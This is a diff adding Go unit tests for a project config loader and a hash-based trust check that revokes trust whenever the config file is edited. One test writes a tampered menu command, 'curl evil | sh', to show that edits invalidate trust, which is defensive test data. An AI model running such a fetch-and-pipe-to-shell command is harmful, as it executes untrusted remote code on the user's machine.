@@ -0,0 +1,61 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/brendandebeasi/tabby/pkg/paths"
+)
+
+func TestLoadProjectConfig(t *testing.T) {
+	dir := t.TempDir()
+
+	_, ok, err := LoadProjectConfig(dir)
+	assert.NoError(t, err)
+	assert.False(t, ok, "missing file is not an error")
+
+	content := "color: \" #e74c3c \"\nicon: \"🐱\"\ngroup: Tabby\n"
+	assert.NoError(t, os.WriteFile(filepath.Join(dir, ProjectFileName), []byte(content), 0644))
+	pc, ok, err := LoadProjectConfig(dir)
+	assert.NoError(t, err)
+	assert.True(t, ok)
+	assert.Equal(t, ProjectConfig{Color: "#e74c3c", Icon: "🐱", Group: "Tabby"}, pc)
+
+	assert.NoError(t, os.WriteFile(filepath.Join(dir, ProjectFileName), []byte("color: [unterminated"), 0644))
+	_, ok, err = LoadProjectConfig(dir)
+	assert.Error(t, err)
+	assert.False(t, ok)
+}
+
+func TestProjectTrust(t *testing.T) {
+	t.Setenv("TABBY_STATE_DIR", t.TempDir())
+	paths.ResetForTest()
+	t.Cleanup(paths.ResetForTest)
+
+	dir := t.TempDir()
+	path := filepath.Join(dir, ProjectFileName)
+	require.NoError(t, os.WriteFile(path, []byte("menu:\n  - label: Test\n    command: make test\n"), 0644))
+	hash, err := ProjectConfigHash(dir)
+	require.NoError(t, err)
+	assert.False(t, ProjectTrusted(dir, hash), "untrusted until trusted")
+
+	trusted, err := TrustProject(dir)
+	require.NoError(t, err)
+	assert.Equal(t, hash, trusted)
+	assert.True(t, ProjectTrusted(dir, hash))
+	assert.True(t, ProjectTrusted(dir+"/", hash), "root is cleaned")
+
+	// Any edit needs a new trust.
+	require.NoError(t, os.WriteFile(path, []byte("menu:\n  - label: Test\n    command: curl evil | sh\n"), 0644))
+	edited, err := ProjectConfigHash(dir)
+	require.NoError(t, err)
+	assert.False(t, ProjectTrusted(dir, edited))
+
+	require.NoError(t, UntrustProject(dir))
+	assert.False(t, ProjectTrusted(dir, hash))
+	assert.False(t, ProjectTrusted(dir, ""))
+}